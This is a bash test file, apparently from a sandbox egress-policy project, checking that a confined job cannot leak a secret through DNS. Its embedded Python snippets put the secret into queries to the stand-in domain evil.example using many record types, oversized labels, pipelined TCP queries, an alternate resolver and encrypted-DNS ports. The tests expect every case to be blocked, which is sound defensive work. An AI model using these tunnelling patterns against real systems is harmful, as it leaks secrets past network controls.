# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# DNS as a way out: the secret in names, in other record types, beside a question, to other resolvers.

tunnel() {
	attack <<-'END'
	import socket, sys
	import job
	secret = job.SECRET.decode()
	reverse = "%s.113.0.203.in-addr.arpa" % secret
	shapes = {
	    "A": lambda: job.ask(job.question(secret + ".evil.example")),
	    "TXT": lambda: job.ask(job.question(secret + ".evil.example", "TXT")),
	    "NULL": lambda: job.ask(job.question(secret + ".evil.example", "NULL")),
	    "MX": lambda: job.ask(job.question(secret + ".evil.example", "MX")),
	    "SRV": lambda: job.ask(job.question("_%s._tcp.evil.example" % secret, "SRV")),
	    "PTR": lambda: job.ask(job.question(reverse, "PTR")),
	    "ip6.arpa": lambda: job.ask(job.question(secret + ".8.b.d.0.1.0.0.2.ip6.arpa", "PTR")),
	    "below": lambda: job.ask(job.question(secret + ".feed.example", "TXT")),
	    "long": lambda: job.ask(job.question([secret.ljust(63, "x").encode()] * 3 + [b"evil", b"example"])),
	    "tcp": lambda: job.ask_tcp(job.framed(job.question(secret + ".evil.example"))),
	    "tcp-second": lambda: job.ask_tcp(job.framed(job.question("feed.example")) +
	                                      job.framed(job.question(secret + ".evil.example"))),
	    "tcp-bytes-after": lambda: job.ask_tcp(job.framed(job.question("feed.example") + job.SECRET)),
	}
	shapes[sys.argv[1]]()
	END
}

test_a_secret_in_a_question_does_not_leave() {
	local shape
	tunnel
	policy_feed
	for shape in A TXT NULL MX SRV PTR ip6.arpa below long; do
		new_secret
		echo "# shape: $shape"
		verdict "dns-*" "${ATTACK[@]}" $shape
	done
}

test_a_secret_in_a_stream_to_the_resolver_does_not_leave() {
	local shape
	tunnel
	policy_feed
	for shape in tcp tcp-second tcp-bytes-after; do
		new_secret
		echo "# shape: $shape"
		guarded -- "${ATTACK[@]}" $shape
		nothing_arrived "$SECRET"
		recorded "Reason=dns-*"
	done
}

test_another_resolver_is_not_asked() {
	attack <<-'END'
	import sys
	import job
	message = job.question(job.SECRET.decode() + ".evil.example")
	if sys.argv[1] == "udp":
	    job.ask(message, "203.0.113.53")
	else:
	    job.ask_tcp(job.framed(message), server="203.0.113.53")
	END
	policy_feed
	verdict dns-server "${ATTACK[@]}" udp
	new_secret
	verdict dns-server "${ATTACK[@]}" tcp
}

test_dns_over_tls_https_or_quic_goes_to_no_resolver_of_the_jobs_own() {
	local how port
	policy_feed
	while read -r how port; do
		new_secret
		verdict not-allowed $JOB $how $EVIL4 $port
	done <<-END
	tcp 853
	udp 853
	udp 443
	udp 5353
	END
}

test_a_rule_for_every_port_is_none_for_dns() {
	policy <<-END
	version: 1
	allow: [ "any://203.0.113.0/24" ]
	END
	attack <<-'END'
	import job
	job.ask(job.question(job.SECRET.decode() + ".evil.example"), "203.0.113.53")
	END
	verdict dns-server "${ATTACK[@]}"
}
